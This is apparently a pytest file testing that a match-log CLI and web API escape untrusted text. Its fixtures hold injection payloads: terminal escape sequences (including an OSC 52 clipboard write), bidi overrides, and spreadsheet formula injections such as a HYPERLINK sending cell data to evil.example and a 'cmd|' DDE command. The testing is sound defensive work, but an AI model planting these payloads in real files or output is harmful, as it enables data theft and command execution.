"""A log's text (names, events, deck names) is someone else's: what zx prints of it cannot drive the
terminal (ESC and OSC sequences: clear the screen, set the title, write the clipboard), reorder
what is shown (bidirectional overrides), or be read as rich markup (``[/]`` failed ``zx matches``,
``[link=...]`` made a link). Tables, CSV and the terminal replay show such text with escapes."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from zx_cli.main import zx
from zx_events.freetext import printable

ROOT = Path(__file__).resolve().parents[1]
NAME = "Aki\x1b[2J\x1b]0;pwned\x07\x1b[31mRED\u202eevil\x9b2J\r"
DECK = "[link=https://evil.example]Red Dragons[/link] [reverse]x"
EVENT = "Cup\x1b]52;c;ZWNobyBoaQ==\x07"
MATCH = "sim-1-0038"
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\r")


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> str:
    folder = tmp_path_factory.mktemp("terminal-text")
    lines = (ROOT / "examples" / "legal" / "long-game-reload-win-by-life.zxlog").read_text("utf-8").splitlines()
    header = json.loads(lines[0])
    header["players"]["P1"].update(name=NAME, deck_name=DECK)
    header["players"]["P2"]["name"] = "[/]"
    header["event"] = EVENT
    log = folder / "hostile.zxlog"
    log.write_text("\n".join([json.dumps(header), *lines[1:]]) + "\n", encoding="utf-8")
    path = str(folder / "s.sqlite")
    r = CliRunner().invoke(zx, ["--store", path, "import", str(log)], env={"ZX_ANALYTICS": str(folder / "s.duckdb")})
    assert r.exit_code == 0, r.output
    return path


def run(store: str, *args: str, columns: str = "400") -> str:
    r = CliRunner().invoke(zx, ["--store", store, *args], env={"COLUMNS": columns})
    assert r.exit_code == 0, r.output
    return r.stdout


def test_printable_escapes_what_drives_a_terminal():
    assert printable("Aki 山田 Ærø") == "Aki 山田 Ærø"
    assert printable("a\tb\nc") == "a\tb\nc"
    assert printable(NAME) == "Aki\\x1b[2J\\x1b]0;pwned\\x07\\x1b[31mRED\\u202eevil\\x9b2J\\r"


@pytest.mark.parametrize("args", [["matches"], ["matches", "--format", "csv"],
                                  ["stats", "winrates", "--by", "player", "--min-games", "1"],
                                  ["stats", "winrates", "--by", "player", "--min-games", "1", "--format", "csv"],
                                  ["replay", MATCH, "--turn", "1", "--as", "P1"],
                                  ["sql", "SELECT event, p1_name, p1_deck, p2_name FROM matches"]])
def test_a_logs_text_is_shown_escaped_never_raw_nor_as_markup(store, args):
    out = run(store, *args)
    for raw in RAW:
        assert raw not in out, (args, repr(raw))
    assert "\\x1b" in out  # shown, as its escape
    assert "[/]" in out  # the P2 name, as written
    if args[0] in ("matches", "replay", "sql"):
        assert "[link=https://evil.example]Red Dragons[/link]" in out.replace("\n", "")


def test_json_keeps_the_text_exact(store):
    rows = json.loads(run(store, "matches", "--format", "json"))
    assert rows[0]["p1"] == NAME and rows[0]["p1_deck"] == DECK and rows[0]["event"] == EVENT


# what JSON does not escape itself (it escapes U+0000-U+001F): C1 controls, DEL, line separators, bidi controls
JSON_RAW = ("\x9b", "\x7f", "\u2028", "\u2029", "\u202e", "\u2066", "\u200f", "\u061c")


def test_json_escapes_what_drives_a_terminal_and_keeps_other_text_as_it_is():
    from zx_cli.output import json_text
    from zx_events.freetext import json_escaped_bytes

    value = {"name": "".join(JSON_RAW) + "\x1b 山田 Ærø"}
    for text in (json_text(value), json_escaped_bytes(json.dumps(value, ensure_ascii=False).encode()).decode()):
        assert not any(c in text for c in JSON_RAW), text
        assert "山田 Ærø" in text and "\\u009b" in text and "\\u202e" in text
        assert json.loads(text) == value


def test_every_json_output_escapes_c1_and_bidi_controls_and_decodes_exact(store, tmp_path):
    """``--format json`` wrote a name's U+009B (a C1 CSI: ``\x9b2J`` clears the screen) and U+202E raw:
    JSON escapes only U+0000-U+001F. Every command's JSON writes them as ``\\u009b``, ``\\u202e``, and
    decodes to the exact text: zx matches, replay, sql, and the error text of zx import and zx audit."""
    outs = {args[0]: run(store, *args, "--format", "json")
            for args in (["matches"], ["replay", MATCH, "--turn", "1", "--as", "judge"],
                         ["sql", "SELECT p1_name FROM matches"])}
    lines = (ROOT / "examples" / "legal" / "first-turns.zxlog").read_text("utf-8").splitlines()
    header = json.loads(lines[0])
    header.update(match="bad-date", played_at="x" + NAME)  # not a date: the error quotes it
    log = tmp_path / "bad.zxlog"
    log.write_text("\n".join([json.dumps(header), *lines[1:]]) + "\n", "utf-8")
    for args in (["import", "--no-analytics", str(log)], ["audit", str(log)]):
        r = CliRunner().invoke(zx, ["--store", str(tmp_path / "s.sqlite"), *args, "--format", "json"])
        assert r.exit_code == 1, r.output
        outs[args[0]] = r.stdout
    for command, out in outs.items():
        assert not any(c in out for c in RAW), (command, out)
        assert "\\u009b" in out and "\\u202e" in out, (command, out)
    assert json.loads(outs["matches"])[0]["p1"] == NAME
    assert json.loads(outs["sql"])[0]["p1_name"] == NAME
    assert NAME in strings(json.loads(outs["replay"]))
    quoted = "RED\u202eevil\x9b2J"  # (the message quotes the value as JSON: its C0 controls as escapes)
    assert any(quoted in text for text in strings(json.loads(outs["import"])))
    assert any(quoted in text for text in strings(json.loads(outs["audit"])))


def strings(value) -> list:
    """Every string in decoded JSON."""
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return [value] if isinstance(value, str) else []


def test_csv_never_hands_a_spreadsheet_a_formula(tmp_path):
    """A player or deck named ``=HYPERLINK(...)``, ``@SUM(...)`` or ``-2+3+cmd|...`` went into every --format csv
    as it was: a spreadsheet opening the file ran it. Such text gets a ``'`` before it (OWASP); numbers, and
    a number's text, stay as they are; JSON keeps the text exact."""
    import csv
    import io

    lines = (ROOT / "examples" / "legal" / "long-game-reload-win-by-life.zxlog").read_text("utf-8").splitlines()
    header = json.loads(lines[0])
    evil = {"P1": '=HYPERLINK("http://evil.example/?"&A1,"click")', "P2": "-2+3+cmd|' /C calc'!A0"}
    for seat, name in evil.items():
        header["players"][seat]["name"] = name
    header["players"]["P1"]["deck_name"] = "@SUM(1+1)"
    log = tmp_path / "f.zxlog"
    log.write_text("\n".join([json.dumps(header), *lines[1:]]) + "\n", encoding="utf-8")
    store = str(tmp_path / "s.sqlite")
    assert CliRunner().invoke(zx, ["--store", store, "import", str(log)]).exit_code == 0
    for args in (["matches"], ["stats", "winrates", "--by", "player"],
                 ["sql", "SELECT p1_name, p2_name, p1_deck, -5 AS n, '-infinity'::DATE AS d FROM matches"]):
        out = CliRunner().invoke(zx, ["--store", store, *args, "--format", "csv"])
        assert out.exit_code == 0, out.output
        cells = [c for row in csv.reader(io.StringIO(out.stdout)) for c in row]
        assert not [c for c in cells if c.startswith(("=", "@", "+")) or (c.startswith("-") and c not in ("-5", "-infinity"))]
        assert "'" + evil["P1"] in cells and "'" + evil["P2"] in cells, (args, cells)
        if args[0] == "sql":
            assert "'@SUM(1+1)" in cells and "-5" in cells and "-infinity" in cells
    rows = json.loads(CliRunner().invoke(zx, ["--store", store, "matches", "--format", "json"]).stdout)
    assert (rows[0]["p1"], rows[0]["p2"]) == (evil["P1"], evil["P2"])


def renamed(source: Path, log: Path, p1: str, p2: str) -> tuple[Path, dict]:
    """The example log ``source`` written to ``log`` with its players named ``p1`` and ``p2``; and its header."""
    lines = source.read_text("utf-8").splitlines()
    header = json.loads(lines[0])
    header["players"]["P1"]["name"], header["players"]["P2"]["name"] = p1, p2
    log.write_text("\n".join([json.dumps(header), *lines[1:]]) + "\n", encoding="utf-8")
    return log, header


def test_csv_quotes_a_field_a_spreadsheet_splitting_on_semicolons_or_tabs_would_cut(tmp_path):
    """A player named ``Aki;=cmd|' /C calc'!A0;=1+1`` was written as it is (it starts with a letter: no ``'``): a
    spreadsheet splitting on ``;`` (the list separator of many locales) read cells ``=cmd|...`` and ``=1+1`` (QA
    round 33). Each part after a ``;`` or a tab that starts as a formula gets its ``'`` too, and the field is
    quoted; JSON keeps the name exact."""
    import csv
    import io

    log, _ = renamed(ROOT / "examples" / "legal" / "first-turns.zxlog", tmp_path / "f.zxlog",
                     "Aki;=cmd|' /C calc'!A0;=1+1", "Ren\t=1+1")
    store = str(tmp_path / "s.sqlite")
    assert CliRunner().invoke(zx, ["--store", store, "import", "--no-analytics", str(log)]).exit_code == 0
    out = CliRunner().invoke(zx, ["--store", store, "matches", "--format", "csv"])
    assert out.exit_code == 0, out.output
    assert '"Aki;\'=cmd|\' /C calc\'!A0;\'=1+1"' in out.stdout and '"Ren\t\'=1+1"' in out.stdout, out.stdout
    for separator in (";", "\t"):  # as a spreadsheet splitting on it reads the file: no cell starts a formula
        cells = [c for row in csv.reader(io.StringIO(out.stdout), delimiter=separator) for c in row]
        assert not [c for c in cells if c.startswith(("=", "@", "+"))], cells
    (row,) = list(csv.DictReader(io.StringIO(out.stdout)))
    assert (row["p1"], row["p2"]) == ("Aki;'=cmd|' /C calc'!A0;'=1+1", "Ren\t'=1+1")
    rows = json.loads(CliRunner().invoke(zx, ["--store", store, "matches", "--format", "json"]).stdout)
    assert (rows[0]["p1"], rows[0]["p2"]) == ("Aki;=cmd|' /C calc'!A0;=1+1", "Ren\t=1+1")


def test_stderr_lines_with_a_logs_text_are_escaped_too(tmp_path):
    """The lines zx import and zx audit print on stderr (a rejected match's error, the audit summary)
    carry a log's text (a match id may not hold control characters, a name may)."""
    lines = (ROOT / "examples" / "legal" / "first-turns.zxlog").read_text("utf-8").splitlines()
    header = json.loads(lines[0])
    header["players"]["P1"]["name"] = NAME
    header["match"] = "m\x1b[2J"  # not a match id: audit still reports the match by it
    record = json.loads(lines[5])
    record["card"] = "R01-999\x1b]52;c;eA==\x07"  # an unknown card: the error quotes it
    log = tmp_path / "bad.zxlog"
    log.write_text("\n".join([json.dumps(header), *lines[1:5], json.dumps(record), *lines[6:]]) + "\n", "utf-8")
    for args in (["import", "--no-analytics", str(log)], ["audit", str(log)]):
        r = CliRunner().invoke(zx, ["--store", str(tmp_path / "s.sqlite"), *args])
        assert r.exit_code == 1, r.output
        for raw in RAW:
            assert raw not in r.output, (args, repr(raw))
    assert "m\\x1b[2J (" in r.stderr  # the audit's summary line, escaped


def test_an_x610z_replay_shows_names_as_text_never_as_markup(tmp_path):
    """X610Z's board is drawn as text: a name ``[/]`` failed zx replay, ``[bold]`` styled the board,
    and a name masked to ``Ann [card]`` for a seat was printed ``Ann ``."""
    log, header = renamed(ROOT / "examples" / "x610z" / "legal" / "murphys-law-ending-dot.x610zlog",
                          tmp_path / "hostile.x610zlog", "[bold]Mia[/bold] A1-010", "[/]")
    store = str(tmp_path / "s.sqlite")
    r = CliRunner().invoke(zx, ["--store", store, "import", "--no-analytics", str(log)])
    assert r.exit_code == 0, r.output
    judge = run(store, "replay", header["match"], "--event", "1", "--as", "judge")
    assert "P1 [bold]Mia[/bold] A1-010 · home" in judge and "P2 [/] · home" in judge
    assert "P1 [bold]Mia[/bold] [card] · home" in run(store, "replay", header["match"], "--event", "1", "--as", "P2")


CONTROLS = "A\x01" * 30 + "B\rC\bD\x0bE\x0cF\x07G"  # \r \b \v \f \a: what rich's Text drops


@pytest.mark.parametrize("log, after", [("legal/long-game-reload-win-by-life.zxlog", "Green Beasts"),
                                        ("x610z/legal/murphys-law-ending-dot.x610zlog", "home")], ids=["zx", "x610z"])
def test_a_replay_shows_a_name_with_control_characters_whole_and_escaped(tmp_path, log, after):
    r"""A P1 named ``A\x01`` x30 + ``B\rC\bD\x0bE\x0cF``: at 80 columns the P1 line of zx replay ended at
    ``A\x01A\`` and the rest of it (the rest of the name, the deck, the player card) was lost; at 400
    columns \r \b \v \f were dropped (``...A\x01BCDEF``), where zx matches shows them escaped. rich's
    Text drops those and measures the other controls as no width: the line was wrapped at its unescaped
    width, then cut once escaped. The whole line is shown now, wrapped, every control as its escape."""
    lines = (ROOT / "examples" / log).read_text("utf-8").splitlines()
    header = json.loads(lines[0])
    header["players"]["P1"]["name"] = CONTROLS
    path = tmp_path / ("ctl" + Path(log).suffix)
    path.write_text("\n".join([json.dumps(header), *lines[1:]]) + "\n", encoding="utf-8")
    store = str(tmp_path / "s.sqlite")
    r = CliRunner().invoke(zx, ["--store", store, "import", "--no-analytics", str(path)])
    assert r.exit_code == 0, r.output
    shown = f"P1 {printable(CONTROLS)} · {after}"  # the deck's name (Z/X), the home dot (X610Z)
    assert shown.endswith("\\x07G · " + after)
    wide = run(store, "replay", header["match"], "--event", "3", "--as", "judge")
    assert any(shown in line for line in wide.splitlines())  # one line, whole
    narrow = run(store, "replay", header["match"], "--event", "3", "--as", "judge", columns="80")
    assert max(len(line) for line in narrow.splitlines()) <= 80
    assert shown.replace(" ", "") in "".join(narrow.split())  # wrapped, whole
    for raw in ("\x01", "\r", "\b", "\x0b", "\x0c", "\x07"):
        assert raw not in wide + narrow, repr(raw)


def test_a_long_value_is_cut_in_a_terminal_and_whole_elsewhere(tmp_path):
    """A 5,000-character player name folded into hundreds of lines of ``zx matches`` in a terminal: a
    value there is cut to ``CELL_MAX`` terminal cells (a note on stderr says so); a pipe, CSV and JSON get
    it whole."""
    from zx_cli.output import CELL_MAX

    name = "Aki" + "x" * 4997
    lines = (ROOT / "examples" / "legal" / "long-game-reload-win-by-life.zxlog").read_text("utf-8").splitlines()
    header = json.loads(lines[0])
    header["players"]["P1"]["name"] = name
    log = tmp_path / "long.zxlog"
    log.write_text("\n".join([json.dumps(header), *lines[1:]]) + "\n", encoding="utf-8")
    path = str(tmp_path / "s.sqlite")
    env = {"ZX_ANALYTICS": str(tmp_path / "s.duckdb")}
    r = CliRunner().invoke(zx, ["--store", path, "import", str(log)], env=env)
    assert r.exit_code == 0, r.output
    for args in (["matches"], ["stats", "winrates", "--by", "player", "--min-games", "1"],
                 ["stats", "winrates", "--by", "player", "--min-games", "1", "--wide"]):
        r = CliRunner().invoke(zx, ["--store", path, *args], env={**env, "COLUMNS": "140"})
        assert r.exit_code == 0, r.output
        assert name not in r.stdout.replace("\n", "").replace("│", "").replace(" ", "")
        assert len(r.stdout.splitlines()) < 30, (args, len(r.stdout.splitlines()))
        assert f"1 value cut to {CELL_MAX} terminal cells (a wide character takes two) to fit the terminal" in r.stderr
    narrow = CliRunner().invoke(zx, ["--store", path, "matches"], env={**env, "COLUMNS": "40"})
    # the players are the columns a narrow table keeps (QA round 36; p1 was left out at 40 and its value not cut):
    # kept, its value cut as at 140; the columns left out are named, and none of their values is said to be cut
    left_out = narrow.stderr[narrow.stderr.index("columns left out"):]
    header = [c.strip() for c in next(x for x in narrow.stdout.splitlines() if x.startswith("┃")).strip("┃").split("┃")]
    assert "p1" in header and "p1," not in left_out and "p2_deck" in left_out, narrow.output
    assert f"1 value cut to {CELL_MAX} terminal cells" in narrow.stderr and len(narrow.stdout.splitlines()) < 40
    piped = CliRunner().invoke(zx, ["--store", path, "matches"], env=env)  # not a terminal: whole
    assert name in piped.stdout and "cut to" not in piped.stderr
    for fmt in ("csv", "json"):
        r = CliRunner().invoke(zx, ["--store", path, "matches", "--format", fmt], env={**env, "COLUMNS": "120"})
        assert name in r.stdout and "cut to" not in r.stderr


def test_a_value_is_cut_by_its_width_in_the_terminal_and_never_inside_an_escape():
    """A value of 150 CJK characters (300 cells) was left whole while 201 ASCII ones were cut; a cut
    could end inside an escape (``\\x1`` of ``\\x1b``)."""
    from rich.cells import cell_len

    from zx_cli.output import CELL_MAX, _cut

    [[wide]], cut = _cut([["山" * 150]])
    assert cut == {0: 1} and cell_len(wide) <= CELL_MAX and wide.endswith("...")
    for pad in range(193, 200):
        [[v]], _ = _cut([["a" * pad + "\\x1b" * 20]])
        assert v.endswith(("\\x1b...", "a...")), v[-12:]
    assert _cut([["a" * 200, "山" * 100]]) == ([["a" * 200, "山" * 100]], {})


@pytest.mark.parametrize("value", [
    "\U0001f1ef\U0001f1f5" * 150,  # flags: two regional indicators each
    "Famille " + "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 120,  # a ZWJ family each
    "x" + "e\u0301\u0302" * 300,  # a letter with two accents
    "\U0001f44d\U0001f3fd" * 150,  # an emoji with its skin tone
])
def test_a_value_is_cut_at_a_grapheme_clusters_end_never_inside_one(value):
    """A table's cut (rich's ``set_cell_size``) left half a flag (an odd number of regional indicators: the
    last flag another one, or a lone letter) and could split a family emoji at a joiner: the cut falls at the
    end of a grapheme cluster, and the value takes at most ``CELL_MAX`` cells."""
    from wcwidth import iter_graphemes, wcswidth

    from zx_cli.output import CELL_MAX, _cut

    [[v]], cut = _cut([[value]])
    assert cut == {0: 1} and v.endswith("...") and wcswidth(v) <= CELL_MAX, (cut, wcswidth(v))
    head, ends = v[:-3], {0}
    for g in iter_graphemes(value):
        ends.add(max(ends) + len(g))
    assert len(head) in ends and value.startswith(head), ascii(head[-8:])
    assert wcswidth(v) > CELL_MAX - 6  # (cut to fit, not shorter)


@pytest.mark.parametrize("columns", ["1", "12", "19"])
def test_a_terminal_narrower_than_20_columns_gets_a_20_column_table_with_its_values(store, columns):
    """COLUMNS=1 printed a column of borders and no value (every column left out): a table is drawn at
    least 20 characters wide, its first column whole (a rate and its interval from about 30: docs/analytics.md)."""
    r = CliRunner(env={"COLUMNS": columns}).invoke(zx, ["--store", store, "matches"])
    assert r.exit_code == 0, r.output
    lines = r.stdout.splitlines()
    assert MATCH in r.stdout and max(len(line) for line in lines) <= 20, r.stdout
    assert r.stdout == CliRunner(env={"COLUMNS": "20"}).invoke(zx, ["--store", store, "matches"]).stdout


def test_an_error_message_quoting_a_logs_text_shows_it_escaped(store):
    """DuckDB's error quotes the value it could not convert: `zx sql "SELECT name::INTEGER FROM seats"` wrote a
    player's name raw to the terminal, an OSC 52 sequence writing the clipboard. Every error message goes out
    with its control characters as escapes (click's own errors too), its lines kept."""
    r = CliRunner().invoke(zx, ["--store", store, "sql", "SELECT name::INTEGER FROM seats ORDER BY name"],
                           env={"ZX_ANALYTICS": str(Path(store).with_suffix(".duckdb"))})
    assert r.exit_code == 1 and "Could not convert string" in r.output, r.output
    assert not any(c in r.output for c in RAW), r.output
    assert "\\x1b" in r.output and "\n" in r.output.strip()


def test_the_http_apis_json_escapes_c1_and_bidi_controls_and_decodes_exact(store):
    """``zx serve``'s answers are read with curl in a terminal too: the match list, a view, the steps, the
    statistics and the audit wrote a name's U+009B and U+202E raw; now as ``\\u009b``, ``\\u202e``."""
    from fastapi.testclient import TestClient

    from zx_web.app import create_app

    with TestClient(create_app(store, judge=True, analytics=str(Path(store).with_suffix(".duckdb")))) as c:
        for url in ("/api/matches", f"/api/matches/{MATCH}/view?as=judge", f"/api/matches/{MATCH}/steps?as=judge",
                    "/api/stats/winrates?by=player&min_games=1", f"/api/audit/{MATCH}"):
            r = c.get(url)
            assert r.status_code == 200, (url, r.text)
            assert not any(c.encode() in r.content for c in RAW), url
            if "audit" not in url:  # (the audit quotes no name)
                assert b"\\u009b" in r.content and b"\\u202e" in r.content, url
                assert NAME in strings(r.json()), url
        assert NAME in strings(c.get(f"/api/matches/{MATCH}/view?as=judge").json())


@pytest.mark.parametrize("value", ["漢字かな" * 100, "😀👨\u200d👩\u200d👧🇯🇵" * 100])
def test_a_cjk_or_emoji_value_in_a_40_column_table_is_cut_as_a_board_cuts_a_name(tmp_path, value):
    """``zx_cli.output._cut`` cut a table's value with its own copy of ``freetext.cut_cells``; it uses it now: in a
    40-column terminal a player name of CJK characters or emoji is cut to 200 cells at a grapheme cluster, ending
    in "...", as a board cuts it, with the table's note, and the table fits the 40 columns."""
    from rich.cells import cell_len

    from zx_events.freetext import cut_cells

    path = str(tmp_path / "s.sqlite")
    log = tmp_path / "wide.zxlog"
    lines = (ROOT / "examples" / "legal" / "first-turns.zxlog").read_text(encoding="utf-8").splitlines()
    head = json.loads(lines[0])
    head["players"]["P1"]["name"] = value
    log.write_text("\n".join([json.dumps(head, ensure_ascii=False), *lines[1:]]) + "\n", encoding="utf-8")
    assert CliRunner().invoke(zx, ["--store", path, "import", "--no-analytics", str(log)]).exit_code == 0
    r = CliRunner().invoke(zx, ["--store", path, "matches", "--format", "json"])
    assert value in r.stdout
    from zx_cli.output import _cut

    [[shown]], cut = _cut([[value]])
    assert cut == {0: 1} and shown == cut_cells(value)
    narrow = CliRunner().invoke(zx, ["--store", path, "matches"], env={"COLUMNS": "40"})
    assert narrow.exit_code == 0, narrow.output
    assert max(cell_len(line) for line in narrow.stdout.splitlines()) <= 40, narrow.stdout
